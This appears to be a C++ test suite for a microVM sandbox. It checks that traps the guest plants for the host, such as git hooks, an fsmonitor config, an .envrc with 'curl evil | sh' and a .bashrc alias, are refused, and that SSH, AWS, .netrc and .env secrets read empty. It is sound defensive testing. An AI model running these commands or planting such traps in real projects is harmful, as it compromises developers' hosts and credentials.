// What crosses the microVM's boundary (issue 15, as in the namespace
// backend's boundary suite): traps for the host written in the guest are
// refused and reported; from a home directory its secrets read empty and
// nothing is written; the root is never shared; `.env*` files at depth and
// behind links read empty. Every attempt is made in a real guest.
#include <sys/stat.h>

#include "tests/microvm/fixture.hpp"

namespace vg::microvm_test {
namespace {

void make_dirs(const std::string& path) {
  for (size_t at = 1; at <= path.size(); ++at) {
    if (at == path.size() || path[at] == '/') mkdir(path.substr(0, at).c_str(), 0755);
  }
}

TEST_F(Microvm, TrapsForTheHostWrittenInTheGuestAreRefusedAndReported) {
  make_dirs(m_workspace + "/.git/hooks");
  write_text(m_workspace + "/.git/config", "[core]\n\trepositoryformatversion = 0\n");
  Child c(argv({"sh", "-c",
                "echo 'touch /tmp/pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
                "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config; "
                "echo 'curl evil | sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; "
                "echo '{}' > .mcp.json; echo ok > kept.txt; echo done"}),
          env());
  c.wait(k_run);
  EXPECT_NE(c.out.find("done"), std::string::npos) << c.out << c.err;
  EXPECT_EQ(read_text(m_workspace + "/kept.txt"), "ok\n") << c.err;  // ordinary writes still land
  EXPECT_FALSE(exists(m_workspace + "/.git/hooks/pre-commit"));
  EXPECT_EQ(read_text(m_workspace + "/.git/config"), "[core]\n\trepositoryformatversion = 0\n");
  for (const char* trap : {".envrc", ".vscode/tasks.json", ".mcp.json"}) {
    EXPECT_FALSE(exists(m_workspace + "/" + trap)) << trap << " was committed";
    EXPECT_NE(c.err.find(trap), std::string::npos) << trap << " refused without a word: " << c.err;
  }
  EXPECT_NE(c.err.find("fsmonitor"), std::string::npos) << "what the trap would do is not said: " << c.err;
}

TEST_F(Microvm, FromTheHomeDirectoryItsSecretsReadEmptyAndNothingIsWritten) {
  std::string home = m_workspace;  // the workspace is the user's home
  make_dirs(home + "/.ssh");
  make_dirs(home + "/.aws");
  write_text(home + "/.ssh/id_rsa", "SECRET-KEY\n");
  write_text(home + "/.aws/credentials", "SECRET-AWS\n");
  write_text(home + "/.netrc", "SECRET-NETRC\n");
  make_dirs(home + "/proj/api");
  write_text(home + "/proj/api/.env", "SECRET-ENV\n");
  write_text(home + "/notes.txt", "visible-notes\n");
  Child c(argv({"sh", "-c",
                "cat .ssh/id_rsa .aws/credentials .netrc proj/api/.env notes.txt 2>&1; "
                "echo 'alias ls=evil' >> .bashrc; echo done"}),
          env({"HOME=" + home, "XDG_CACHE_HOME=" + m_runtime + "/cache"}));
  c.wait(k_run);
  EXPECT_NE(c.out.find("visible-notes"), std::string::npos) << c.out << c.err;
  EXPECT_EQ(c.out.find("SECRET"), std::string::npos) << "a secret was readable in the guest: " << c.out;
  EXPECT_FALSE(exists(home + "/.bashrc")) << "the home's rc file was written";
  EXPECT_NE(c.err.find("not a project"), std::string::npos) << "vg should say what it did instead: " << c.err;
}

TEST_F(Microvm, FromADirectoryHoldingVgsConfigItIsNeitherReadNorWritten) {
  make_dirs(m_workspace + "/.config/vg");
  write_text(m_workspace + "/.config/vg/config.yaml", "mode: always # SECRET-CONFIG\n");
  Child c(argv({"sh", "-c",
                "cat .config/vg/config.yaml 2>&1; echo 'mode: disabled' > .config/vg/config.yaml; "
                "echo hi > .bashrc; echo done"}),
          env({"XDG_CONFIG_HOME=" + m_workspace + "/.config"}));
  c.wait(k_run);
  EXPECT_NE(c.out.find("done"), std::string::npos) << c.out << c.err;
  EXPECT_EQ(c.out.find("SECRET-CONFIG"), std::string::npos) << "vg's config was readable in the guest: " << c.out;
  EXPECT_EQ(read_text(m_workspace + "/.config/vg/config.yaml"), "mode: always # SECRET-CONFIG\n");
  EXPECT_FALSE(exists(m_workspace + "/.bashrc"));
  EXPECT_NE(c.err.find("not a project"), std::string::npos) << c.err;
}

TEST_F(Microvm, TheRootAndSystemDirectoriesAreNeverShared) {
  for (const char* dir : {"/", "/etc"}) {
    Child c({driver(), "--workspace", dir, "--cwd", dir, "--", "sh", "-c", "echo ran"}, env());
    int code = c.wait(k_run);
    EXPECT_NE(code, 0) << dir;
    EXPECT_EQ(c.out.find("ran"), std::string::npos) << dir << ": the command ran with the host's " << dir << " shared";
    EXPECT_NE(c.err.find("shares only a project directory"), std::string::npos) << c.err;
  }
}

TEST_F(Microvm, EnvFilesDeepAndBehindLinksReadEmpty) {
  make_dirs(m_workspace + "/app/api/v1");
  make_dirs(m_workspace + "/conf");
  write_text(m_workspace + "/app/api/v1/.env", "SECRET-DEEP\n");
  write_text(m_workspace + "/conf/prod.secrets", "SECRET-LINKED\n");
  ASSERT_EQ(symlink("conf/prod.secrets", (m_workspace + "/.env.production").c_str()), 0);
  write_text(m_workspace + "/app/readme", "visible-readme\n");
  Child c(argv({"sh", "-c", "cat app/api/v1/.env .env.production conf/prod.secrets app/readme 2>&1; echo done"}),
          env());
  c.wait(k_run);
  EXPECT_NE(c.out.find("visible-readme"), std::string::npos) << c.out << c.err;
  EXPECT_EQ(c.out.find("SECRET"), std::string::npos) << "a secret was readable in the guest: " << c.out;
}

TEST_F(Microvm, WhenHidingCannotBeCompleteTheGuestDoesNotStart) {
  for (int i = 0; i < 60; ++i) write_text(m_workspace + "/f" + std::to_string(i), "x\n");
  Child c(argv({"sh", "-c", "touch ran"}), env({"VG_TEST_SECRET_WALK_LIMIT=50"}));
  EXPECT_EQ(c.wait(k_run), 69) << c.err;
  EXPECT_NE(c.err.find("does not start"), std::string::npos) << c.err;
  EXPECT_FALSE(exists(m_workspace + "/ran")) << "the command ran";
}

}  // namespace
}  // namespace vg::microvm_test
